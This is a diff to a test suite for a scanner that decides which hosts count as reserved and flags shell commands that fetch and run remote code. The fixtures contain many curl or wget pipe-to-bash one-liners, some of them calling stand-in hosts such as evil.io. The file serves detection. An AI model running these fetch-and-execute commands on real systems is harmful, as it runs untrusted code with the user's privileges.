@@ -16,11 +16,7 @@ describe('reserved hosts (RFC 2606, 6761, 8375)', () => {
     'downloads.example.com',
     'a.b.example.org',
     'install.example',
-    'tools.test',
     'nothing.invalid',
-    'localhost',
-    'app.localhost',
-    'router.home.arpa',
   ])('%s is reserved', (host) => {
     expect(isReservedHost(host)).toBe(true);
   });
@@ -35,6 +31,11 @@ describe('reserved hosts (RFC 2606, 6761, 8375)', () => {
     'home.arpa.evil.io',
     'localhost.evil.io',
     'xn--exmple-cua.com',
+    // Reserved, but answered locally by design: this machine, a dev resolver, a home network.
+    'localhost',
+    'app.localhost',
+    'tools.test',
+    'router.home.arpa',
   ])('%s is not', (host) => {
     expect(isReservedHost(host)).toBe(false);
   });
@@ -43,7 +44,7 @@ describe('reserved hosts (RFC 2606, 6761, 8375)', () => {
     'https://example.com/install.sh',
     'https://example.com',
     'https://downloads.example.org:8443/tool-\u0000.tar.gz?x=1#top',
-    'https://api.test/v1',
+    'https://api.example/v1',
   ])('%s is a reserved URL', (url) => {
     expect(isReservedUrl(url)).toBe(true);
   });
@@ -78,7 +79,7 @@ describe('remote-exec: a fetch from a reserved host only is no finding', () => {
     ['an archive, the path with a variable', 'curl -fsSL "https://example.com/tool-${TARGETARCH}.tar.gz" | tar -xz'],
     ['wget into sh', 'wget -qO- https://downloads.example.org/setup.sh | sh'],
     ['clustered options with a value', 'curl -fsSLo /dev/stdout https://example.net/x.sh | sh'],
-    ['a .test host with a port', 'curl --fail --silent https://api.test:8443/install | sudo -E bash'],
+    ['a .example host with a port', 'curl --fail --silent https://api.example:8443/install | sudo -E bash'],
     ['sh -c of a substitution', 'sh -c "$(curl -fsSL https://example.com/install.sh)"'],
     ['process substitution', 'bash <(curl -s https://example.com/x.sh)'],
     ['eval of a substitution', 'eval "$(curl https://example.com/env)"'],
@@ -109,6 +110,9 @@ describe('remote-exec: every other spelling is still remote', () => {
     ['a host variable', 'curl -fsSL "https://$HOST/i.sh" | bash'],
     ['a URL built in a variable', 'URL="https://evil.io/i.sh"\ncurl -fsSL "$URL" | bash'],
     ['plain HTTP', 'curl -fsSL http://example.com/i.sh | bash'],
+    ['this machine', 'curl -fsSL https://localhost:8443/i.sh | bash'],
+    ['a development name', 'curl -fsSL https://tools.test/i.sh | bash'],
+    ['a home network name', 'curl -fsSL https://nas.home.arpa/i.sh | bash'],
     ['a second URL', 'curl -fsSL https://example.com/a.sh https://evil.io/b.sh | bash'],
     ['a second URL without a scheme', 'curl -fsSL https://example.com/a.sh evil.io/b.sh | bash'],
     ['a proxy option', 'curl -x http://evil.io:8080 https://example.com/i.sh | bash'],
